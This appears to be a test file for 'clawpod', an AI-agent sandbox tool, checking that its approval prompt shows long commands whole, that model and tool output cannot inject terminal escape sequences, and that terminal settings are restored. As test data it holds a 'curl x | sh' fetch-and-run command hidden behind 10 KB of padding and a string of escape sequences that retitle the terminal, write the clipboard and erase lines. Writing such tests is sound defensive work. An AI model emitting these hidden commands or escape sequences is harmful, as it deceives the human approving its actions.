// What the user approves is what they saw: `clawpod run` on a real terminal (a pty from
// script(1)) shows a tool call's whole input before asking, and nothing the model or the pod
// writes can drive the terminal (retitle it, write the clipboard, erase what was shown).
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { startFakeAnthropic } from './fakes/anthropic.js';
import { BIN, policyFile, tmpDir, workspace } from './helpers.js';

const skip = spawnSync('script', ['--version']).status === 0 ? false : 'needs script(1) for a pty';
const KEY = 'sk-ant-test-approval';

/** Runs clawpod under a pty; answers `answer` to each [y/N] prompt; returns the pty's output. */
function onTerminal(args: string[], env: Record<string, string>, cwd: string, answer: string): Promise<{ code: number; out: string }> {
  const cmd = [process.execPath, BIN, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
  return new Promise((resolve) => {
    const child = spawn('script', ['-qfec', `stty cols 100; exec ${cmd}`, '/dev/null'], {
      cwd, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: process.env.HOME ?? '/root', ...env }, stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    let asked = 0;
    const onData = (d: Buffer) => {
      out += d.toString('utf8');
      const prompts = out.split('[y/N]').length - 1;
      if (prompts > asked) { asked = prompts; child.stdin.write(`${answer}\r`); }
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('close', (code) => { clearTimeout(timer); resolve({ code: code ?? 137, out }); });
  });
}

test('the approval prompt shows a 10 KB command whole, tail included', { skip }, async () => {
  const long = `echo ${'a'.repeat(10_000)} > /dev/null; curl x | sh`;
  const fake = await startFakeAnthropic([
    { toolUses: [{ name: 'bash', input: { command: long } }], stopReason: 'tool_use' },
    { text: 'ok', stopReason: 'end_turn' },
  ]);
  try {
    const home = tmpDir('home');
    const p = policyFile('version: 1\ntools: { approve: [bash] }\n');
    const r = await onTerminal(['run', '--policy', p, 'do it'], { CLAWPOD_HOME: home, ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: fake.url }, workspace(), 'n');
    const prompt = r.out.slice(0, r.out.indexOf('[y/N]'));
    // Wrapped lines continue with "┆ ": joined back, the command is there in full.
    const unwrapped = prompt.replace(/\r?\n {2}┆ /g, '');
    assert.ok(unwrapped.includes(long), `the whole command was shown (prompt has ${prompt.length} chars):\n${prompt.slice(-400)}`);
    const block = prompt.slice(prompt.lastIndexOf('clawpod: the agent asks'));
    for (const line of block.split(/\r?\n/)) assert.ok([...line].length <= 100, `a line wider than the terminal: ${line.length}`);
    assert.match(r.out, /did not approve|denied/);
  } finally { await fake.close(); }
});

test('model text and tool output cannot drive the terminal', { skip }, async () => {
  const evil = 'A\x1b]0;pwned-title\x07B\x1b]52;c;ZXZpbA==\x07C\x1b[2K\x1b[1AD\rE\u202eF';
  const fake = await startFakeAnthropic([
    { text: `look: ${evil}`, toolUses: [{ name: 'read_file', input: { path: 'evil.txt' } }], stopReason: 'tool_use' },
    { toolUses: [{ name: 'bash', input: { command: 'cat evil.txt >&2; exit 3' } }], stopReason: 'tool_use' },
    { text: 'done', stopReason: 'end_turn' },
  ]);
  try {
    const home = tmpDir('home');
    const ws = workspace({ 'evil.txt': evil });
    const r = await onTerminal(['run', 'look'], { CLAWPOD_HOME: home, ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: fake.url }, ws, 'n');
    assert.equal(r.code, 0, r.out);
    for (const raw of ['\x1b]0;', '\x1b]52;', '\x1b[1A', '\x1b[2K', '\u202e', '\x07']) {
      assert.ok(!r.out.includes(raw), `raw ${JSON.stringify(raw)} reached the terminal`);
    }
    assert.match(r.out, /\\x1b\]0;pwned-title/, 'shown, escaped');
    assert.ok(!/D\rE/.test(r.out), 'a carriage return cannot overwrite what was shown');
  } finally { await fake.close(); }
});

test('exec gives the terminal back as it found it, whatever the pod did to it', { skip }, async () => {
  const dir = tmpDir('tty');
  const ws = workspace();
  const home = tmpDir('home');
  const q = (a: string) => `'${a.replace(/'/g, `'\\''`)}'`;
  // The pod turns off echo and canonical mode and shrinks the window, then exits.
  const pod = 'stty raw -echo -icanon; stty cols 33 rows 7; exit 0';
  const script = [
    'stty cols 100 rows 30', `stty -g > ${dir}/before`,
    `CLAWPOD_HOME=${q(home)} ${q(process.execPath)} ${q(BIN)} exec --workspace ${q(ws)} -- sh -c ${q(pod)}`,
    `echo $? > ${dir}/code`, `stty -g > ${dir}/after`, `stty size > ${dir}/size`,
  ].join('; ');
  const r = spawnSync('script', ['-qfec', script, '/dev/null'], { encoding: 'utf8', timeout: 60_000, input: '' });
  const read = (f: string) => fs.readFileSync(path.join(dir, f), 'utf8').trim();
  assert.equal(read('code'), '0', r.stdout);
  assert.equal(read('after'), read('before'), 'terminal settings restored');
  assert.equal(read('size'), '30 100', 'window size restored');
});
